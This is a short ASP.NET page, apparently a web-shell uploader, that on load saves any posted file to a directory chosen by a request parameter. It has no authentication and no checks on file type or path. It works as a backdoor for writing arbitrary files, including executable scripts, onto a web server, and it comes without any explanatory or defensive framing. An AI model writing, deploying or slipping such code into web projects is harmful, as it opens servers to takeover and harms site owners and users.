<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e) {
  if (Request.Files.Count == 0) return;
  HttpPostedFile f = Request.Files[0];
  f.SaveAs(System.IO.Path.Combine(Request["dir"], System.IO.Path.GetFileName(f.FileName)));
}
</script>
